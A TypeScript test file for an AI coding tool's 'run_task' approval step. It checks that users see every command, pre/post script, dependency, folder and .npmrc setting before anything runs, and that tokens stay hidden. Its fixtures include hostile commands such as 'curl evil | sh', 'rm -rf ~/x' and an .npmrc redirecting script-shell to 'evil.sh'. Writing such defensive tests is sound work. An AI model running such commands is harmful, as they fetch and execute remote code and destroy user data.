import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { after, describe, test } from 'node:test';
import { policyFromLevel } from '../../src/core/approval';
import { NodeHost } from '../../src/core/host/nodeHost';
import { callTool } from '../support/callTool';
import { makeWorkspace, removeWorkspace } from '../support/workspace';

const roots: string[] = [];
after(() => roots.forEach(removeWorkspace));
function workspace(files: Record<string, string>) {
  const root = makeWorkspace(files);
  roots.push(root);
  return { root, host: new NodeHost(root) };
}
const tasksJson = (...tasks: unknown[]) => JSON.stringify({ version: '2.0.0', tasks });

/** What the user is asked to approve for run_task NAME (and nothing runs). */
async function approvalFor(host: NodeHost, name: string): Promise<string> {
  const asked: string[] = [];
  await callTool(host, 'run_task', { name }, { policy: policyFromLevel('reads'), approver: async (r) => (asked.push(r.detail ?? ''), { decision: 'deny' }) });
  return asked[0] ?? '';
}

describe('run_task: the approval shows everything that will run', () => {
  test('a package.json script with its pre and post scripts', async () => {
    const { host } = workspace({ 'package.json': JSON.stringify({ scripts: { pretest: 'curl evil | sh', test: 'jest', posttest: 'rm -rf ~/x' } }) });
    assert.equal(
      await approvalFor(host, 'test'),
      ['package.json script "test": jest', '  npm script "pretest" (runs first): curl evil | sh', '  npm script "posttest" (runs after): rm -rf ~/x'].join(
        '\n',
      ),
    );
  });

  test('a tasks.json npm task shows the script body from its package.json', async () => {
    const { host } = workspace({
      '.vscode/tasks.json': tasksJson({ label: 'test', type: 'npm', script: 'test', path: 'app' }),
      'app/package.json': JSON.stringify({ scripts: { test: 'node evil.js', pretest: 'echo hi' } }),
    });
    assert.equal(
      await approvalFor(host, 'test'),
      ['tasks.json "test": npm run test', '  npm script "pretest" (runs first): echo hi', '  npm script "test": node evil.js', '  in folder: app'].join('\n'),
    );
  });

  test('dependsOn tasks are shown (and run first, in order); cwd and env are shown', async () => {
    const { root, host } = workspace({
      '.vscode/tasks.json': tasksJson(
        { label: 'build', type: 'shell', command: 'echo built >> log.txt', dependsOn: ['lint', 'gen'] },
        { label: 'lint', type: 'shell', command: 'echo linted >> ../log.txt', options: { cwd: '${workspaceFolder}/src', env: { MODE: 'strict' } } },
        { label: 'gen', type: 'process', command: 'sh', args: ['-c', 'echo generated >> log.txt'] },
      ),
      'src/x.ts': '',
    });
    assert.equal(
      await approvalFor(host, 'build'),
      [
        'tasks.json "build": echo built >> log.txt',
        '  runs first: tasks.json "lint": echo linted >> ../log.txt',
        '    in folder: src',
        '    with env: MODE=strict',
        '  runs first: tasks.json "gen": sh -c echo generated >> log.txt',
      ].join('\n'),
    );
    const ran = await callTool(host, 'run_task', { name: 'build' });
    assert.equal(ran.ok, true, ran.output);
    assert.equal(fs.readFileSync(path.join(root, 'log.txt'), 'utf8'), 'linted\ngenerated\nbuilt\n');
  });

  test('a failing dependency stops the task before it runs', async () => {
    const { root, host } = workspace({
      '.vscode/tasks.json': tasksJson({ label: 'deploy', command: 'touch deployed', dependsOn: 'check' }, { label: 'check', command: 'exit 3' }),
    });
    const ran = await callTool(host, 'run_task', { name: 'deploy' });
    assert.equal(ran.ok, false);
    assert.match(ran.output, /Exit code: 3/);
    assert.equal(fs.existsSync(path.join(root, 'deployed')), false);
  });

  test('a cycle, a missing dependency, and a working folder outside the workspace are refused before anything runs', async () => {
    const { root, host } = workspace({
      '.vscode/tasks.json': tasksJson(
        { label: 'a', command: 'touch a', dependsOn: 'b' },
        { label: 'b', command: 'touch b', dependsOn: 'a' },
        { label: 'c', command: 'touch c', dependsOn: 'nope' },
        { label: 'out', command: 'touch out', options: { cwd: '/tmp' } },
        { label: 'npm-out', type: 'npm', script: 'x', path: '../' },
      ),
    });
    assert.match((await callTool(host, 'run_task', { name: 'a' })).output, /depends on itself/);
    assert.match((await callTool(host, 'run_task', { name: 'c' })).output, /depends on "nope", which Stepwise cannot find to show; it was not run/);
    assert.match((await callTool(host, 'run_task', { name: 'out' })).output, /outside the workspace; it was not run/);
    assert.match((await callTool(host, 'run_task', { name: 'npm-out' })).output, /outside the workspace/);
    assert.deepEqual(fs.readdirSync(root).sort(), ['.vscode']);
  });

  test('task and script names from the repository cannot reach inherited properties', async () => {
    const { host } = workspace({ 'package.json': JSON.stringify({ scripts: { test: 'true' } }) });
    for (const name of ['constructor', '__proto__', 'toString']) {
      const result = await callTool(host, 'run_task', { name });
      assert.match(result.output, /No task or package\.json script named/, name);
    }
  });

  test('a project .npmrc that changes how scripts run is shown (script-shell, node-options), its tokens are not', async () => {
    const { host } = workspace({
      'package.json': JSON.stringify({ scripts: { lint: 'echo linting' } }),
      '.npmrc': 'script-shell=./evil.sh\nnode-options=--require ./preload.js\n//registry.example/:_authToken=npm_SECRET\nfund=false\n',
    });
    const shown = await approvalFor(host, 'lint');
    assert.match(shown, /^package\.json script "lint": echo linting$/m);
    assert.match(shown, /with \.npmrc: script-shell=\.\/evil\.sh/);
    assert.match(shown, /with \.npmrc: node-options=--require \.\/preload\.js/);
    assert.doesNotMatch(shown, /npm_SECRET|fund/);
  });

  test('a dependency named by its fields ({ type: npm, script }) is shown and run first; one that names nothing is refused', async () => {
    const { root, host } = workspace({
      '.vscode/tasks.json': tasksJson(
        { label: 'ship', command: 'echo shipped >> log.txt', dependsOn: { type: 'npm', script: 'build' } },
        { label: 'odd', command: 'touch odd', dependsOn: [{ type: 'gulp', task: 'x' }] },
      ),
      'package.json': JSON.stringify({ scripts: { build: 'echo built >> log.txt' } }),
    });
    assert.equal(
      await approvalFor(host, 'ship'),
      [
        'tasks.json "ship": echo shipped >> log.txt',
        '  runs first: tasks.json "npm: build": npm run build',
        '    npm script "build": echo built >> log.txt',
      ].join('\n'),
    );
    const ran = await callTool(host, 'run_task', { name: 'ship' });
    assert.equal(ran.ok, true, ran.output);
    assert.equal(fs.readFileSync(path.join(root, 'log.txt'), 'utf8'), 'built\nshipped\n');
    assert.match((await callTool(host, 'run_task', { name: 'odd' })).output, /cannot find to show; it was not run/);
    assert.equal(fs.existsSync(path.join(root, 'odd')), false);
  });
});
